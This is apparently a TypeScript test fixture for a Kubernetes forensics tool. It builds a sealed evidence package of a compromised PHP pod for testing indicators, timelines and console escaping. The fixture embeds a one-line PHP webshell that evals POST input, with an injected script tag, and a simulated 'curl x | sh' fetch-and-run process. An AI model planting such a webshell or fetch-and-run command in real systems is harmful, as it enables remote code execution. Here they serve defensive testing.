import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { recordSealed } from '../../src/cli/commands/evidence-anchor.js';
import { type CustodyRecord, createPackageDir, sealPackage } from '../../src/forensics/index.js';
import type { Store } from '../../src/store/index.js';
import { craftPackage, processOutput } from './evidence-package.js';

/** The custody record of an exec acquisition of `shop/web-7f9c/php` on `prod` by rita. */
export function shopCustody(packageId: string): CustodyRecord {
  return {
    packageId,
    operator: 'rita',
    kubernetesIdentity: undefined,
    cluster: { context: 'prod', server: 'https://127.0.0.1:6443' },
    target: {
      namespace: 'shop',
      pod: 'web-7f9c',
      podUid: 'uid-1',
      container: 'php',
      containerId: 'containerd://abc',
      node: 'node-1',
      image: 'php:8-apache',
      imageDigest: `sha256:${'1'.repeat(64)}`,
    },
    method: 'exec',
    gatehouseVersion: 'test',
    collector: { profile: 'default', sha256: '0'.repeat(64) },
    startedAt: '2026-11-30T10:00:00.000Z',
    finishedAt: '2026-11-30T10:01:00.000Z',
    bytesReceived: 4096,
    errors: [],
    partialItems: [],
  };
}

/** A webshell whose quoted line carries markup (hostile text the console must escape). */
export const hostileShell = "<?php @eval($_POST['cmd']); ?><script>alert('owned')</script>\n";
const listing = '10|-rw-r--r--|0|0|64|1764496800|1764496800|1764496800|./var/www/html/uploads/x.php\n';

/** The web server, a shell it started (markup in its arguments), and a deleted binary the shell ran. */
const processes = processOutput([
  { pid: 1, ppid: 0, name: 'apache2', argv: ['apache2', '-DFOREGROUND'], exe: '/usr/sbin/apache2' },
  { pid: 12, ppid: 1, name: 'sh', argv: ['sh', '-c', '<b>curl</b> x | sh'], exe: '/bin/dash' },
  { pid: 13, ppid: 12, name: 'kdevtmp', argv: ['./kdevtmp'], exe: '/tmp/kdevtmp (deleted)' },
]);
/** The collector's clock and the container's uptime: process starts land on the timeline. */
const clock = '2026-11-30T09:59:00Z\n3600.00 7000.00\n';

/**
 * A package sealed, recorded in the store's audit log and signed as `gatehouse acquire` leaves it,
 * with a webshell (indicators) and a file listing (timeline); no cluster needed. With
 * `recorded: false` it is only sealed: no audit entry, no signature file (a package brought in).
 */
export async function sealedShopPackage(
  store: Store,
  evidenceRoot: string,
  options: { recorded?: boolean } = {},
): Promise<{ id: string; root: string }> {
  const { id, root } = createPackageDir(evidenceRoot, new Date('2026-11-30T10:00:00Z'));
  craftPackage(
    {
      files: [{ source: '/var/www/html/uploads/x.php', artifact: 'files.web', content: hostileShell }],
      outputs: { 'fs.bodyfile': listing, 'live.processes': processes, 'live.date': clock },
    },
    root,
  );
  writeFileSync(join(root, 'acquisition.log'), 'started\n');
  const packageHash = sealPackage(root, shopCustody(id));
  if (options.recorded === false) return { id, root };
  const event = { actor: 'rita', action: 'forensics.acquire', target: 'shop/web-7f9c/php' };
  await recordSealed(store, event, { id, root, packageHash, custody: shopCustody(id) });
  return { id, root };
}
